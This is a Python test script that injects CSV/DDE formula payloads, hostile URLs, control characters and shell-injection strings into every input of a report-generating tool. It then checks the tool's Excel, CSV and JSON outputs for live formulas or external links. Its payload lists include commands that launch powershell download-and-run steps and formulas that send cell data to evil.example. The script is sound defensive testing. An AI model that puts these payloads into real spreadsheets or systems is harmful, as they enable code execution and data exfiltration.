"""Puts text that attacks into every place of the inputs that reaches an output, and looks at what lands there.

usage: check_injection.py BINARY FOLDER [PART ...]

The parts are rows, json, headings, file_names, spreadsheets and templates; all of them where none is named. Prints a line for each thing that is wrong, and at the end how much was looked at.
"""
import csv
import html
import io
import json
import pathlib
import re
import subprocess
import sys
import unicodedata
import zipfile

import openpyxl

# The list of OWASP's page on CSV injection, DDE in its known disguises, and what else spreadsheet programs run.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=1+1\";=1+2", "=1+2'\" ;,=1+2", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=        C    m D|'/c calc.exe'!A", "'=1+1", "\"=1+1", "“=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "−1+1",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Report\")", "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "=IMPORTDATA(\"https://evil.example\")", "{=1+1}",
    "=IMAGE(\"https://evil.example/a.png\")", "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"x\",\"y\",0,0)",
]
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "vbscript:msgbox(1)", "file:///etc/passwd",
    "file://server/share/x.exe", "\\\\server\\share\\x.xlsx", "//server/share", "data:text/html,<script>alert(1)</script>",
    "ms-excel:ofe|u|https://evil.example/x.xls", "search-ms:query=x", "http://evil.example/", "ftp://evil.example/x",
    "https://", "https:\\\\evil.example", " https://evil.example/ x", "https://evil.example/\"x", "internal:Cover!A1",
    "external:c:\\x.xlsx", "mailto:x@evil.example?cc=y", "smb://server/share", "ldap://evil.example/x",
]
OTHERS = [
    "A1", "$A$1", "R1C1", "Sheet1!A1", "'Cover'!A1", "[Book1.xlsx]Sheet1!A1", "#REF!", "#N/A", "TRUE", "1E5", "007", "1/2",
    "_x0041_", "_x003D_1+1", "_x005F_x0041_", "_x000D_", "abc\u202ecod.exe", "\u2066abc\u2069", "\u200f=1+1", "Lee\u200bds",
    "Lee\u00adds", "\ufeff=1+1", "\u2060=1+1", "L\u0456eds", "\x1b[31mred", "\x1b]8;;https://evil.example\x1b\\Report\x1b]8;;\x1b\\",
    "\x1b]0;title\x07", "\x07bell", "\x08\x08\x08", "\x7f", "\x9b31m", "\x0b\x0c", "\ufffe", "\uffff", "\ufdd0", "\ue000",
    "<b>&amp;</b>", "]]></t><f>1+1</f><t>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", "&#x3D;1+1", "%s%n%d", "$(touch x)",
    "`touch x`", "; touch x", "../../etc/passwd", "..\\..\\x", "CON", "{council}", "{month}", "&[Path]&[File]", "&D&\"Arial\"&A",
    "👩‍👩‍👧 é ﷽", "a" * 33_000, "\U000e0041\U000e0042",
]
PAYLOADS = FORMULAS + ADDRESSES + OTHERS
HEADINGS = ["Local authority", "Inspection date", "Publication date", "Inspection type", "Overall effectiveness",
            "Impact of leaders", "Theme", "Report URL"]
GOOD = ["Leeds", "13/05/2024", "20/06/2024", "ILACS Short Inspection", "Good", "Good", "", "https://reports.ofsted.gov.uk/1"]

wrong, looked = [], 0


def complain(place, what):
    wrong.append(f"{place}: {what!r:.300}")


def is_unseen(character):
    """Whether a character steers instead of being seen."""
    return unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp")


def visible(text):
    """The text as the workbook shows a value: blanks for line breaks, and a mark for what nobody would see."""
    shown = ""
    for character in text[:300]:
        if character in "\t\n\x0b\x0c\r\x85\xa0\u2028\u2029":
            shown += " "
        elif character in "\ufffd\ufffe\uffff":
            shown += "[?]"
        elif is_unseen(character):
            shown += f"[U+{ord(character):04X}]"
        else:
            shown += character
    return shown + ("… (shortened)" if len(text) > 300 else "")


def rows():
    """A row for each text and each place in a row."""
    for number, payload in enumerate(PAYLOADS):
        day = f"{1 + number % 28:02}/{1 + number // 28 % 12:02}/{2013 + number // 336}"
        for place in ["Local authority", "Inspection date", "Overall effectiveness", "Inspection type", "Theme", "Report URL"]:
            row = dict(zip(HEADINGS, GOOD))
            row["Inspection date"], row["Publication date"] = day, ""
            if place == "Theme":
                row.update({"Inspection type": "ILACS Focused Visit", "Overall effectiveness": "", "Impact of leaders": ""})
                row["Inspection date"] = day.replace("/201", "/202")
            row[place] = payload
            yield [row[heading] for heading in HEADINGS]


class Run:
    def __init__(self, binary, folder):
        self.binary, self.folder = binary, folder
        folder.mkdir()

    def __call__(self, *arguments, accept=(0,)):
        done = subprocess.run([self.binary, *arguments], cwd=self.folder, capture_output=True)
        self.talk(" ".join(arguments[:2]), done.stdout.decode("utf-8", "strict") + done.stderr.decode("utf-8", "strict"),
                  is_text="--format" not in arguments)
        if done.returncode not in accept:
            complain(self.folder.name, f"exit code {done.returncode}: {done.stderr.decode()[:500]}")
        return done.stdout.decode()

    def talk(self, place, text, is_text):
        if is_text:
            for line in text.split("\n"):
                if any(is_unseen(character) for character in line):
                    complain(f"{self.folder.name}: {place}", f"the terminal is sent {line}")

    def write(self, name, text):
        with open(self.folder / name, "w", encoding="utf-8", errors="surrogatepass", newline="") as file:
            file.write(text)

    def outputs(self):
        """Looks at every file that was written; gives all text of workbooks, and all of CSV and JSON."""
        texts, values = set(), set()
        for path in sorted((self.folder / "Output").rglob("*")):
            place = f"{self.folder.name}: {path.name}"
            if path.is_symlink():
                continue
            if path.suffix == ".xlsx":
                texts |= workbook(path, place)
            elif path.suffix == ".csv":
                values |= table(path.read_text("utf-8-sig"), place)
            elif path.suffix == ".json":
                values |= strings(json.loads(path.read_text("utf-8")))
            elif path.suffix == ".txt":
                self.talk(path.name, path.read_text("utf-8"), is_text=True)
        return texts, values


def workbook(path, place):
    """Nothing in the package may be run, fetched or lead elsewhere; gives the texts of its cells."""
    global looked
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if re.search(r"externalLink|vba|macro|activeX|ole|connections|queryTable|customUI|calcChain|ctrlProp|embedd", name):
                complain(place, f"the package holds {name}")
            xml = package.read(name).decode("utf-8", "strict")
            if re.search(r"<f[ >/]|<ddeLink|<externalReference|t=\"str\"|<definedName[^>]*>[^<]*\|", xml):
                complain(place, f"{name} holds a formula")
            for target in re.findall(r"Target=\"([^\"]*)\" TargetMode=\"External\"", xml):
                if not html.unescape(target).startswith("https://reports.ofsted.gov.uk/"):
                    complain(place, f"a link leads to {target}")
    texts = set()
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                looked += 1
                if cell.data_type not in ("s", "n", "d", "inlineStr"):
                    complain(place, f"{sheet.title}!{cell.coordinate} is of type {cell.data_type}")
                if cell.data_type == "s":
                    texts.add(cell.value)
    return texts


def table(text, place):
    """No field may begin like a formula; gives the fields without the apostrophe that keeps them text."""
    global looked
    fields = set()
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            looked += 1
            bare = field.lstrip(" \t\r\n\0\xa0\u200b\u200f\ufeff\u2060\u00ad\"'“”‘’＂＇")
            begins = field[:1] in ("\t", "\r", "\n", "\0") or bare[:1] in tuple("=+-@＝＋－＠−")
            if field and begins and bare and not field.startswith("'"):
                complain(place, f"the field {field}")
            fields |= {field, field.removeprefix("'")}
    return fields


def strings(value):
    if isinstance(value, dict):
        return set().union(*map(strings, value.values())) if value else set()
    if isinstance(value, list):
        return set().union(*map(strings, value)) if value else set()
    return {value} if isinstance(value, str) else set()


def expect(place, payloads, texts, shown=visible):
    """Every text is to be found, as a whole or within another one."""
    global looked
    # Headings have no doubled blanks, and long words are broken in narrow columns.
    everything = "\0".join(re.sub(r"\s", "", text) for text in sorted(texts))
    for payload in payloads:
        looked += 1
        if re.sub(r"\s", "", shown(payload)) not in everything:
            complain(place, f"not to be found: {payload[:80]!r} as {shown(payload).strip()[:80]!r}")


def in_rows(binary, root):
    run = Run(binary, root / "rows")
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL).writerows([HEADINGS] + list(rows()))
    run.write("ratings.csv", buffer.getvalue())
    run("--xlsx", "--csv", "--json", "--month", "2026-11", "ratings.csv")
    texts, values = run.outputs()
    # What stands in more than one place is a duplicate in all but the first; the address is refused by itself.
    expect("rows: workbook", PAYLOADS, texts)
    found = strings(json.loads(run("check", "--format", "json", "ratings.csv", accept=(0, 1))))
    expect("rows: check", [payload for payload in PAYLOADS if len(payload) < 100], found, shown=lambda text: text)
    run("check", "ratings.csv", accept=(0, 1))
    run("history", "Leeds", "ratings.csv")
    themes = strings(json.loads(run("history", "Leeds", "ratings.csv", "--format", "json")))
    expect("rows: themes", [payload for payload in PAYLOADS if len(payload) < 100], themes, shown=lambda text: text)
    table(run("history", "Leeds", "ratings.csv", "--format", "csv"), "rows: history")
    run("layouts", "explain", "ratings.csv")
    run("claims", "Leeds", "ratings.csv", accept=(0, 1))


def in_json(binary, root):
    run = Run(binary, root / "json")
    # Half a pair of surrogates can be written in JSON only, and takes the place of the first text.
    rows_of_lone = [["LONE" if field == PAYLOADS[0] else field for field in row] for row in rows()]
    text = json.dumps([dict(zip(HEADINGS, row)) for row in rows_of_lone]).replace("LONE", "\\ud800 lone \\udc00")
    run.write("ratings.json", text)
    run("--xlsx", "--csv", "--json", "--month", "2026-11", "ratings.json")
    texts, _ = run.outputs()
    expect("json: workbook", PAYLOADS[1:] + ["\ufffd lone \ufffd"], texts)
    run("check", "ratings.json", accept=(0, 1))


def in_headings(binary, root):
    run = Run(binary, root / "headings")
    payloads = [payload for payload in PAYLOADS if len(payload) < 100 and payload.strip()]
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL).writerows([HEADINGS + payloads, GOOD + payloads])
    run.write("ratings.csv", buffer.getvalue())
    run("--xlsx", "--csv", "--json", "--month", "2026-11", "ratings.csv")
    texts, _ = run.outputs()
    expect("headings: workbook", payloads, texts)
    run("check", "ratings.csv", accept=(0, 1))
    run("layouts", "explain", "ratings.csv")


def in_file_names(binary, root):
    run = Run(binary, root / "names")
    names = [payload for payload in PAYLOADS if "/" not in payload and len(payload) < 100 and not re.search(r"[*?\[]", payload)]
    names = [name for name in names if name not in (" ", "..")]
    for number, name in enumerate(names):
        text = ",".join(HEADINGS) + "\n" + ",".join(GOOD).replace("13/05", f"{1 + number % 28:02}/{1 + number // 28:02}") + "\n"
        run.write(name + ".csv", text)
    files = [f"./{name}.csv" for name in names]
    run("--xlsx", "--csv", "--json", "--month", "2026-11", *files)
    texts, values = run.outputs()
    expect("names: workbook", names, texts)
    expect("names: data", names, values, shown=lambda text: text)
    run("check", *files, accept=(0, 1))
    run("history", "Leeds", *files)
    before = {path.name for path in run.folder.iterdir()}
    if before != {name + ".csv" for name in names} | {"Output"}:
        complain("names", "a file was made outside of the output folder")


def in_spreadsheets(binary, root):
    run = Run(binary, root / "spreadsheets")
    book = openpyxl.Workbook()
    book.remove(book.active)
    payloads = [payload for payload in ADDRESSES + FORMULAS if not re.search(r"[\x00-\x08\x0b-\x1f]", payload)]
    for title in ["=1+1", "@SUM(1)", "R1C1", "A1", "_x0041_", "'Cover'!A1"[1:6], "\u202eabc"]:
        sheet = book.create_sheet(title)
        sheet.append(HEADINGS)
        for number, payload in enumerate(payloads):
            day = f"{1 + number % 28:02}/{1 + number // 28:02}/{2013 + len(book.worksheets)}"
            sheet.append(["Leeds", day, "", "ILACS Short Inspection", "Good", "Good", "", "Report"])
            cell = sheet.cell(sheet.max_row, len(HEADINGS))
            cell.hyperlink = payload
            if number % 2 and '"' not in payload:
                cell.hyperlink = None
                cell.value = f'=HYPERLINK("{payload}","Report")'
        sheet.append(["Leeds", "01/01/2013", "", "ILACS Short Inspection", "=1+1", "=cmd|' /C calc'!A0", "", ""])
    book.save(run.folder / "ratings.xlsx")
    run("--xlsx", "--csv", "--json", "--month", "2026-11", "ratings.xlsx")
    texts, _ = run.outputs()
    expect("spreadsheets: workbook", [sheet.title for sheet in book], texts)
    run("check", "ratings.xlsx", accept=(0, 1))
    run("history", "Leeds", "ratings.xlsx")
    run("layouts", "explain", "ratings.xlsx")


def in_templates(binary, root):
    run = Run(binary, root / "templates")
    run.write("ratings.csv", ",".join(HEADINGS) + "\n" + ",".join(GOOD) + "\n")
    payloads = [payload for payload in FORMULAS + OTHERS if len(payload) < 100 and payload.strip() and "{" not in payload
                and not any(unicodedata.category(letter) in ("Cc", "Cn") for letter in payload)]
    for number, payload in enumerate(payloads[::8]):
        notes = [{"title": f"Note {other}: {text}", "text": text} for other, text in enumerate(payloads)] if number == 0 else []
        template = {"title": payload, "council": payload, "contact": payload, "notes": notes,
                    "sheets": ["cover", "contents", "summary", {"sheet": "areas", "lines": [payload]}, "notes"]}
        run.write("council.yaml", json.dumps(template, ensure_ascii=False))
        run("--xlsx", "--template", "council.yaml", "--month", "2026-11", "ratings.csv")
        texts, _ = run.outputs()
        expect("templates", payloads if number == 0 else [payload], texts, shown=lambda text: text)


def main():
    binary, root = sys.argv[1], pathlib.Path(sys.argv[2])
    parts = [in_rows, in_json, in_headings, in_file_names, in_spreadsheets, in_templates]
    for part in [part for part in parts if not sys.argv[3:] or part.__name__.removeprefix("in_") in sys.argv[3:]]:
        try:
            part(binary, root)
        except ValueError as error:
            complain(part.__name__, f"no JSON: {error}")
    for line in wrong:
        print(line)
    print(f"{len(PAYLOADS)} texts, {looked} cells, fields and texts looked at, {len(wrong)} wrong")


if __name__ == "__main__":
    main()
